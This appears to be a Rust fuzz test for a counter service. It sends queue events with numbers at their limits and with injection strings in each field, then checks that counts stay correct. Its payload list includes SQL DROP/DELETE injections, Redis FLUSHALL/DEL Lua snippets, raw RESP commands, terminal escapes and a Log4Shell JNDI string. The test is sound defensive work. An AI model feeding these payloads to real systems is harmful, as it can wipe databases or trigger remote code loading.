//! Sends count events and set events that have values at the limits. Also sends events that contain SQL or Lua code
//! instead of a name or an id.

use std::collections::{BTreeMap, HashSet};

use lapin::BasicProperties;
use serde_json::{Value, json};
use sqlx::Row;
use tallyd_core::event::{CountEvent, DELTA_MAX, SetEvent, VALUE_MAX};
use tallyd_core::model::Micros;

use super::common::World;
use super::{Expected, assert_lives, good, publish};
use crate::common::Dice;
use crate::fuzz::mutate::Mutations;

const SETTINGS: &str = "[kinds]\nvideo = 1\ninbox = 3\n[metrics]\nlike = 1\nview = 2\nunread = 3\n\
                        [[rule]]\nmetric = \"unread\"\nkind = \"inbox\"\nsettable = true\n";

/// If a program did not escape these texts, they would end a statement, a script, a key or a line.
const CODE: [&str; 10] = [
    "'; DROP TABLE counter; -- ",
    "1 OR 1=1",
    "\\'; DELETE FROM like_record; #",
    "1) ON DUPLICATE KEY UPDATE value = 9 -- ",
    "']] redis.call('FLUSHALL') --[[",
    "\nredis.call('DEL', KEYS[1])\n",
    "*3\r\n$3\r\nSET\r\n$1\r\na\r\n$1\r\nb\r\n",
    "} KEYS[1] {id}",
    "\u{0}\u{1b}[2J\u{202e}",
    "${jndi:ldap://a.example/}",
];

/// The value of each counter, by kind, target and metric.
type Numbers = BTreeMap<(u8, u64, u8), i64>;

/// Returns events that contain SQL or Lua code in a field, and events that contain a number at a limit.
fn odd(now: i64) -> Vec<Vec<u8>> {
    let count = |number: i64| {
        json!({"type": "count", "kind": "video", "target_id": number % 5 + 1, "metric": "view", "delta": 1,
               "event_id": format!("id-{number}"), "at": now - 1_000_000 - number})
    };
    let set = |number: i64| {
        json!({"type": "set", "kind": "inbox", "target_id": number % 5 + 1, "metric": "unread", "value": 3,
               "at": now - 1_000_000 - number})
    };
    let mut all: Vec<Value> = Vec::new();
    let mut with = |field: &str, value: Value| {
        for mut event in [count(all.len() as i64), set(all.len() as i64)] {
            event[field] = value.clone();
            all.push(event);
        }
    };
    for code in CODE {
        for field in ["type", "kind", "target_id", "user_id", "metric", "delta", "value", "event_id", "at", "count"] {
            with(field, json!(code));
        }
        // These events have an unknown field. Its name is SQL or Lua code. The decoder ignores unknown fields.
        with(code, json!(code));
    }
    let (delta, value) = (DELTA_MAX as i64, VALUE_MAX as i64);
    for number in [0, 1, -1, delta, -delta, delta + 1, -delta - 1, value, -value, value + 1, i64::MAX, i64::MIN] {
        for field in ["delta", "value", "count", "target_id"] {
            with(field, json!(number));
        }
        with("at", json!(now.saturating_add(number)));
    }
    with("event_id", json!("é".repeat(64)));
    with("event_id", json!("e".repeat(65)));
    with("type", json!("reset"));
    all.iter().map(|event| event.to_string().into_bytes()).collect()
}

/// Computes the expected counters. Each count event is added once, and only if it is newer than the counter's newest
/// set event.
fn model(counts: &[CountEvent], sets: &[SetEvent]) -> Numbers {
    let mut seen = HashSet::new();
    let once: Vec<&CountEvent> =
        counts.iter().filter(|count| seen.insert((count.at.0 / 1_000_000, count.id))).collect();
    let of_count = once.iter().map(|count| (count.target, count.metric));
    let of_set = sets.iter().map(|set| (set.target, set.metric));
    let mut numbers = Numbers::new();
    for of in of_count.chain(of_set) {
        let newest = sets.iter().filter(|set| (set.target, set.metric) == of).map(|set| (set.at, set.value)).max();
        let (since, value) = newest.unwrap_or((Micros(0), 0));
        let after = once.iter().filter(|count| (count.target, count.metric) == of && count.at > since);
        let (target, metric) = of;
        numbers.insert((target.kind.0, target.id.0, metric.0), value + after.map(|count| count.delta).sum::<i64>());
    }
    numbers.retain(|_, value| *value != 0);
    numbers
}

async fn numbers(world: &World) -> Numbers {
    let sql = "SELECT kind, target_id, metric, CAST(SUM(value) AS SIGNED) AS value FROM counter WHERE metric > 1 \
               GROUP BY kind, target_id, metric HAVING value <> 0";
    let rows = sqlx::query(sql).fetch_all(&world.pool).await.unwrap();
    rows.iter().map(|row| ((row.get(0), row.get(1), row.get(2)), row.get(3))).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn numbers_at_their_edges_and_code_where_a_name_belongs_are_counted_or_refused_and_do_nothing_else() {
    let world = World::new("hostile_numbers", SETTINGS).await;
    let publisher = world.publisher().await;
    let mut daemon = world.daemon();
    let mut expected = Expected::of(&world);
    let mut bodies = odd(tallyd_base::runtime::clock::now().0);
    let corpus = bodies.clone();
    let mut more = Mutations::of(&corpus, Dice::of_run(11));
    bodies.extend((0..2_500).map(|_| more.next().to_vec()));
    let mut messages = Vec::new();
    for (number, body) in (0..).zip(bodies) {
        let like = good(number);
        expected.note(&body);
        expected.note(&like);
        messages.extend([(body, BasicProperties::default()), (like, BasicProperties::default())]);
    }
    let (counts, sets) = (expected.counts.len(), expected.sets.len());
    assert!(counts > 100 && sets > 100, "only {counts} counts and {sets} sets are accepted");
    publish(&world, 0, messages).await;
    world.drained(&publisher).await;
    assert_lives(&mut daemon);
    world.assert_equals(&expected.model).await;
    assert_eq!(numbers(&world).await, model(&expected.counts, &expected.sets));
    expected.assert_letters(&world).await;
    // A reconcile must be able to compare and repair the counters in Redis.
    let report = world.reconcile("--full").await;
    assert_eq!(report["ended"], "done", "{report}");
}
